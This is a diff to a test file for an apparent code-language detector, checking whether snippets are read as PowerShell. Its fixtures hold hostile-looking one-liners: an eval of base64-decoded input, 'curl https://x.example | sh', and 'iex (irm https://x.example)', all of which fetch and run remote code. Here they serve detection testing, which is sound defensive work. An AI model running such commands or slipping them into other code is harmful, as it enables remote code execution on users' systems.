@@ -53,14 +53,14 @@ describe("the results of the stages", () => {
 
   it.each([
     ["php", "<?php eval(base64_decode($x)); // powershell", false],
-    ["rust", 'Command::new("sh").arg(base64::decode(x)); // powershell', false],
+    ["rust", 'let c = "curl https://x.example | sh"; // powershell', false],
     ["sh", "iex (irm https://x.example); powershell -File a.ps1", true],
   ])("contain trees of PowerShell only if no other grammar reads it: %s", async (tag, text, is) => {
     const detector = await sharedDetector("extended");
-    const { regions } = detector.explain(text, { format: tag });
+    const { regions, mentions } = detector.explain(text, { format: tag });
     const languages = regions.flatMap(({ trees }) => trees.map(({ language }) => language));
     expect(languages.includes("powershell")).toBe(is);
-    expect(languages.length).toBeGreaterThan(0);
+    expect(mentions).toBe(true);
   });
 
   it("contain the syntax trees and the captures, with file and line", async () => {
